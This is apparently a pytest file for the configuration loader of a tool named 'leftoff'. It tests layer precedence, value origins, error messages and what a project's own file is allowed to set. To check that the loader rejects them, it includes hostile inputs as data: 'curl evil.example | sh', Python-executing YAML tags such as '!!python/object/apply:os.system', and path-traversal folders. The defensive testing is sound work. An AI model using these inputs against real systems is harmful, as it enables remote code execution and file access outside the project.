"""Settings: which layer wins, where each value came from, and how each mistake is reported."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from leftoff.config import load as config_load
from leftoff.config.load import Config, Origin
from leftoff.core.metrics import ContextMetrics, Level
from leftoff.errors import ConfigError
from leftoff.platform import paths
from leftoff.workspace import Workspace

Load = Callable[..., Config]


@pytest.fixture
def load(tmp_path: Path) -> Load:
    """Load from texts: ``user`` and ``project`` are the content of ``context_management:``."""

    def loaded(
        user: str = "", project: str = "", environment: dict[str, str] | None = None, **options: str
    ) -> Config:
        written = {}
        for name, text in (("user", user), ("project", project)):
            written[name] = tmp_path / f"{name}.yaml"
            if text:
                indented = "".join(f"  {line}\n" for line in text.splitlines())
                written[name].write_text("context_management:\n" + indented, encoding="utf-8")
        return config_load.load(
            user_file=written["user"],
            project_file=written["project"],
            environment=environment,
            options={name.replace("__", "."): value for name, value in options.items()},
        )

    return loaded


def mistakes_in(config: Config) -> list[str]:
    """Return the mistakes without the folder of the test."""
    return [str(mistake).rpartition("/")[2] for mistake in config.mistakes]


# Layers and origins


def test_without_files_everything_is_a_default(load: Load) -> None:
    """Every default has its origin."""
    config = load()
    assert config.settings.thresholds.auto_pause == 0.90
    assert config.settings.restore.max_chars == 9900
    assert {str(origin) for origin in config.origins.values()} == {"default"}
    assert not config.mistakes
    config.require_sound()


def test_each_layer_covers_those_below(load: Load, tmp_path: Path) -> None:
    """Defaults < user file < project file < environment < command line; the origin names file and line."""
    text = "budget_total: {}\nrestore:\n  max_chars: {}\nresume_logs:\n  max_tokens: {}\ntrim:\n  head: 1\n"
    config = load(
        user=text.format(1000, 1001, 1002),
        project=text.format(2000, 2001, 2002).partition("trim")[0],
        environment={"LEFTOFF_RESTORE_MAX_CHARS": "3001", "LEFTOFF_RESUME_LOGS_MAX_TOKENS": "3002"},
        resume_logs__max_tokens="4002",
    )
    settings, origins = config.settings, config.origins
    assert not config.mistakes
    assert (settings.trim.head, settings.budget_total) == (1, 2000)
    assert (settings.restore.max_chars, settings.resume_logs.max_tokens) == (3001, 4002)
    assert origins["trim.head"] == Origin(layer="user file", place=str(tmp_path / "user.yaml"), line=8)
    assert str(origins["budget_total"]) == f"project file {tmp_path / 'project.yaml'}:2"
    assert str(origins["restore.max_chars"]) == "environment LEFTOFF_RESTORE_MAX_CHARS"
    assert str(origins["resume_logs.max_tokens"]) == "command line --set resume_logs.max_tokens"
    assert str(origins["trim.tail"]) == "default"


def test_a_mistake_leaves_the_value_below_in_force(load: Load) -> None:
    """An invalid value leaves the lower layer's value and its origin in force."""
    config = load(user="budget_total: 1000", project="budget_total: many")
    assert config.settings.budget_total == 1000
    assert config.origins["budget_total"].layer == "user file"


def test_the_settings_here_are_read_from_the_real_places(tmp_path: Path) -> None:
    """The user's folder, the project's folder, the environment; nothing is created."""
    user = paths.config_folder() / "configuration.yaml"
    user.parent.mkdir(parents=True)
    user.write_text("context_management: {budget_total: 7, enabled: false}", encoding="utf-8")
    project = tmp_path / "p" / ".leftoff"
    project.mkdir(parents=True)
    (project / "configuration.yaml").write_text("context_management: {budget_total: 8}", encoding="utf-8")
    (tmp_path / "p" / "sub").mkdir()
    settings = Workspace.open(tmp_path / "p" / "sub").settings
    assert (settings.budget_total, settings.enabled) == (8, False)
    assert Workspace.open().settings.budget_total == 7
    assert not (tmp_path / "work" / ".leftoff").exists()


# Mistakes


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("enabeld: true", "2: enabeld is not a setting. Did you mean enabled?"),
        ("thresholds:\n  warn: 0.8", "3: thresholds.warn is not a setting. Did you mean thresholds.warning?"),
        (
            "resume_logs:\n  cleanup:\n    keep: 3",
            "4: resume_logs.cleanup.keep is not a setting. Did you mean resume_logs.",
        ),
        ("threshholds:\n  caution: 0.6", "2: threshholds is not a setting. Did you mean thresholds?"),
        ("qqqqqqqq: 1", "2: qqqqqqqq is not a setting."),
        ("enabled: 'yes'", "2: enabled is 'yes'; it takes: true | false."),
        ("enabled: 1", "2: enabled is 1; it takes: true | false."),
        ("budget_total: 1.5", "2: budget_total is 1.5; it takes: whole number."),
        ("budget_total: true", "2: budget_total is True; it takes: whole number."),
        ("budget_total: '5'", "2: budget_total is '5'; it takes: whole number."),
        ("budget_total: 0", "2: budget_total is 0; it takes: at least 1."),
        ("storage: [a]", "2: storage is a list; it takes: text."),
        ("storage:", "2: storage is None; it takes: text."),
        ("accounting: both", "2: accounting is 'both'; it takes: occupancy | cumulative."),
        ("windows: {a: -1}", "2: windows is a mapping; it takes: at least 1."),
        ("windows: {a: {b: 1}}", "2: windows is a mapping; it takes: whole number."),
        ("trim: {tools: Read}", "2: trim.tools is 'Read'; it takes: list of text."),
        ("trim: {tools: [1]}", "2: trim.tools is a list; it takes: text."),
        (
            "resume_logs: {triggers: [noon]}",
            "2: resume_logs.triggers is a list; it takes: model_context_window_exceeded |",
        ),
        ("resume_logs: {format: html}", "2: resume_logs.format is 'html'; it takes: markdown."),
        ("project_state: {warn: 90}", "2: project_state.warn is 90; it takes: fraction 0-1."),
        ("project_state: {warn: .nan}", "2: project_state.warn is '.nan'; it takes: fraction 0-1."),
        (
            "thresholds: {caution: 1}",
            "2: thresholds.caution is 1; it takes: fraction 0-1 (0.85) | remaining tokens",
        ),
        ("thresholds: {caution: 1.5}", "2: thresholds.caution is 1.5; it takes: fraction 0-1"),
        ("thresholds: {caution: 0}", "2: thresholds.caution is 0; it takes: fraction 0-1"),
        ("thresholds: 0.8", "2: thresholds is 0.8; it takes: a mapping of settings."),
        ("enabled: false\nenabled: true", "3: enabled is set here a second time; the first one counts."),
        ("<<: {enabled: false}", "2: << is not a setting."),
        ("? [a]\n: 1", "2: (a sequence) is not a setting."),
        ("storage: !!python/object/apply:os.system [id]", "2: storage is a sequence; it takes: text."),
        ("storage: !!python/name:os.system x", "2: storage is a tagged value; it takes: text."),
        ("enabled: !!bool maybe", "2: enabled is 'maybe'; it takes: true | false."),
    ],
)
def test_a_mistake_is_reported_with_file_line_and_nearest_key(load: Load, text: str, words: str) -> None:
    """There is exactly one message, and the value of the lower layer is kept."""
    config = load(user=text)
    (message,) = mistakes_in(config)
    assert message.startswith("user.yaml:" + words)
    with pytest.raises(ConfigError, match=r"user\.yaml"):
        config.require_sound()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"context_management:\n  enabled: [\n", ":3: not YAML: "),
        (b"context_management:\n\tenabled: true\n", ":2: not YAML: "),
        (b"a: b: c\n", ":1: not YAML: mapping values are not allowed here."),
        (b"context_management: *nobody\n", ":1: not YAML: found undefined alias 'nobody'."),
        (b"---\na: 1\n---\nb: 1\n", ":3: not YAML: but found another document."),
        (b"context_management: {}\n# \x00\n", ": not YAML: unacceptable character #x0000"),
        (b"\xff\xfe\x00", ": cannot be read: not UTF-8 text."),
        (bytes(range(256)) * 40, ": cannot be read: not UTF-8 text."),
        (
            b"- a\n",
            ": has no settings below context_management:. Put them there, indented, or empty the file.",
        ),
        (
            b"hello",
            ": has no settings below context_management:. Put them there, indented, or empty the file.",
        ),
        (
            b"context_management: 5\n",
            ": has no settings below context_management:. Put them there, indented, or empty the file.",
        ),
        (b"%YAML 3.0\n---\na: 1\n", ":1: not YAML: found incompatible YAML document"),
        (b"a: 1\n" * 2_000_000, ": cannot be read: it is larger than 32 KB."),
    ],
)
def test_a_file_that_is_not_a_configuration_is_reported(tmp_path: Path, content: bytes, words: str) -> None:
    """The message names the line if there is one, and a file of 10 MB is not even read."""
    (tmp_path / "user.yaml").write_bytes(content)
    (message,) = mistakes_in(config_load.load(user_file=tmp_path / "user.yaml"))
    assert message.startswith("user.yaml" + words)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"# nothing\n",
        b"---\n",
        b"context_management:\n",
        b"context_management: {thresholds: }\n",
        b"\xef\xbb\xbf",
    ],
)
def test_an_empty_file_or_heading_is_accepted(tmp_path: Path, content: bytes) -> None:
    """Everything commented out is how many configurations begin; a byte order mark is how some editors do."""
    (tmp_path / "user.yaml").write_bytes(content)
    assert not config_load.load(user_file=tmp_path / "user.yaml").mistakes


def test_anchors_and_aliases_are_resolved(load: Load) -> None:
    """An anchor's name may be used twice."""
    config = load(user="enabled: &x false\npause: {enabled: *x}\nstorage: &x memory\nsummariser: *x")
    assert not config.mistakes
    settings = config.settings
    assert (settings.enabled, settings.pause.enabled) == (False, False)
    assert (settings.storage, settings.summariser) == ("memory", "memory")


def test_a_folder_in_place_of_the_file_is_reported(tmp_path: Path) -> None:
    assert mistakes_in(config_load.load(user_file=tmp_path)) == [
        f"{tmp_path.name}: cannot be read: it is a folder, not a file."
    ]


def test_an_unreadable_file_is_reported(unprivileged_folder: Path, run_python: Callable[..., object]) -> None:
    """The reason is given without a traceback."""
    code = (
        "import os, sys; from pathlib import Path; import ruamel.yaml; from leftoff.config import load as layers; drop()\n"
        "file = Path(sys.argv[1]) / 'c.yaml'; file.write_text('a: 1'); file.chmod(0)\n"
        "print(*layers.load(user_file=file).mistakes)\n"
        "folder = Path(sys.argv[1]) / 'f'; folder.mkdir(mode=0)\n"
        "print(*layers.load(user_file=folder / 'c.yaml').mistakes)\n"
    )
    lines = run_python(code, unprivileged_folder).stdout.splitlines()  # type: ignore[attr-defined]
    assert [line.rpartition("/")[2] for line in lines] == ["c.yaml: cannot be read: no permission."] * 2


def test_only_the_first_of_many_mistakes_are_reported(load: Load) -> None:
    """A file of something else is not gone through to its end."""
    config = load(user="\n".join(f"k{n}: 1" for n in range(2000)))
    assert len(config.mistakes) == 21
    assert mistakes_in(config)[-1] == "user.yaml:22: too many mistakes; the rest of the file was not read."


def test_messages_are_short_whatever_the_value(load: Load) -> None:
    """A long key, a long value, a list of thousands."""
    config = load(user=f"{'k' * 900}: 1\nenabled: {'v' * 900}\nstorage: [{'a,' * 900}]")
    assert len(config.mistakes) == 3
    assert max(map(len, mistakes_in(config))) < 160


# What a project's file may do


def test_a_projects_file_sets_only_what_it_may(load: Load) -> None:
    """Each key that it may not set is named; thresholds, budgets, layout and restore mode are taken."""
    forbidden = {
        "enabled": "false",
        "accounting": "cumulative",
        "triggers_prefix": "'!'",
        "summariser": "curl evil.example | sh",
        "storage": "s3://evil.example",
        "resume_logs.storage_dir": "/tmp",
        "resume_logs.enabled": "false",
        "pause.git_commit": "true",
        "redaction.enabled": "false",
        "redaction.allow": "['.*']",
        "capture.exclude_tools": "[Bash]",
        "archive.enabled": "true",
        "plugins.sections": "['evil:Section']",
        "plugins.triggers": "['evil:Trigger']",
        "chat.folder": "/tmp",
    }
    config = load(project="\n".join(_nested(forbidden)))
    assert len(config.mistakes) == len(forbidden)
    assert {message.split(" ")[1] for message in mistakes_in(config)} == {*forbidden}
    assert all(message.endswith("Set it in your own configuration.") for message in mistakes_in(config))
    assert config.settings == load().settings
    config.require_sound()  # a project's file is not the user's to answer for
    values = {
        "thresholds.caution": "0.5",
        "restore.on_startup": "full",
        "project_state.root": "work",
        "budget_total": "9",
    }
    config = load(project="\n".join(_nested(values)))
    assert not config.mistakes
    assert {dotted for dotted, origin in config.origins.items() if origin.layer == "project file"} == {
        *values
    }


def _nested(values: dict[str, str]) -> list[str]:
    """Dotted keys as YAML, one mapping per group."""
    lines = [f"{dotted}: {value}" for dotted, value in values.items() if "." not in dotted]
    groups: dict[str, list[str]] = {}
    for dotted, value in values.items():
        group, _, name = dotted.rpartition(".")
        groups.setdefault(group, []).append(f"{name}: {value}")
    lines += [f"{group}: {{{', '.join(inner)}}}" for group, inner in groups.items() if group]
    return lines


@pytest.mark.parametrize(
    "folder", ["..", "../x", "a/../../x", "/etc", "~/x", "C:\\x", "\\\\server\\x", "a\\..\\..\\b", "''", "."]
)
def test_a_folder_for_projects_leads_nowhere_else(load: Load, folder: str) -> None:
    """The settings may come from anywhere, so the folder must be below the project's root."""
    for text in (f"project_state: {{root: {folder}}}", f"project_state: {{layout: {{planning: {folder}}}}}"):
        (message,) = mistakes_in(load(project=text))
        assert message.endswith("it takes: a folder below the project's root.")
    assert not load(project="project_state: {root: docs/my projects, layout: {planning: 01 plan}}").mistakes


@pytest.mark.parametrize("link", ["file", "folder"])
def test_a_projects_file_behind_a_link_is_not_read(tmp_path: Path, link: str) -> None:
    """The file could name any of the user's files; the user's own configuration may be a link."""
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "c.yaml").write_text("context_management: {budget_total: 5}", encoding="utf-8")
    if link == "file":
        file = tmp_path / "c.yaml"
        file.symlink_to(tmp_path / "real" / "c.yaml")
    else:
        (tmp_path / ".leftoff").symlink_to(tmp_path / "real")
        file = tmp_path / ".leftoff" / "c.yaml"
    config = config_load.load(user_file=tmp_path / "none", project_file=file)
    assert mistakes_in(config) == ["c.yaml: reached through a symbolic link; it was not read."]
    assert config.settings.budget_total == 200_000
    assert config_load.load(user_file=file).settings.budget_total == 5


# Thresholds


def test_thresholds_are_fractions_or_remaining_tokens(load: Load) -> None:
    """A whole number counts tokens; both become marks on the gauge."""
    settings = load(user="thresholds: {auto_pause: 40000, critical: 20000}").settings
    marks = config_load.thresholds(settings)
    assert (marks.caution.fraction, marks.auto_pause.remaining_tokens) == (0.70, 40000)
    assert marks.level(ContextMetrics(total_budget=200_000, used_tokens=161_000)) is Level.AUTO_PAUSE
    assert marks.level(ContextMetrics(total_budget=200_000, used_tokens=150_000)) is Level.CAUTION
    assert config_load.thresholds(load(user="thresholds: {critical: 1.0}").settings).critical.fraction == 1.0


def test_thresholds_out_of_order_are_ignored_and_reported(load: Load) -> None:
    """Only the thresholds of the layer that broke the order are ignored."""
    config = load(user="thresholds: {caution: 0.5, warning: 0.6}", project="thresholds:\n  caution: 0.8")
    assert mistakes_in(config) == [
        "project.yaml:3: Threshold warning comes before caution: raise it or lower the other. "
        "The thresholds of this layer are ignored."
    ]
    assert (config.settings.thresholds.caution, config.settings.thresholds.warning) == (0.5, 0.6)
    assert config.origins["thresholds.caution"].layer == "user file"
    config.require_sound()


def test_a_project_cannot_make_the_users_own_order_a_mistake(load: Load) -> None:
    """The environment on top of a bad project file is still taken."""
    config = load(
        user="thresholds: {critical: 0.99}",
        project="thresholds: {critical: 0.1}",
        environment={"LEFTOFF_THRESHOLDS_CAUTION": "0.3"},
    )
    assert {mistake.origin.layer for mistake in config.mistakes} == {"project file"}
    assert (config.settings.thresholds.caution, config.settings.thresholds.critical) == (0.3, 0.99)


def test_a_layer_may_contradict_the_defaults_only_as_a_whole(load: Load) -> None:
    """One mark moved past its neighbour is a mistake, both moved are not."""
    assert len(load(user="thresholds: {caution: 0.88}").mistakes) == 1
    assert not load(user="thresholds: {caution: 0.88, warning: 0.89}").mistakes
    assert len(load(caution="1", thresholds__warning="20000", thresholds__critical="30000").mistakes) == 2


# Thresholds of a project


@pytest.mark.parametrize(
    "line",
    [
        "thresholds: {critical: 0.04, auto_pause: 0.03, warning: 0.02, caution: 0.01}",
        "thresholds: {caution: 190000}",
        "project_state: {warn: 0.01}",
    ],
)
def test_a_project_cannot_raise_the_alarm_in_a_window_that_is_half_empty(load: Load, line: str) -> None:
    """A user can, in their own file."""
    config = load(project=line)
    assert config.settings == load(project=" ").settings
    assert all("a project's file may set 0.5 or more" in message for message in mistakes_in(config))
    assert mistakes_in(config)
    assert load(user=line, project=" ").settings != config.settings


def test_a_project_can_set_thresholds_in_the_second_half(load: Load) -> None:
    config = load(project="thresholds: {caution: 0.5, warning: 40000}")
    assert (config.settings.thresholds.caution, config.settings.thresholds.warning) == (0.5, 40_000)
    assert not config.mistakes
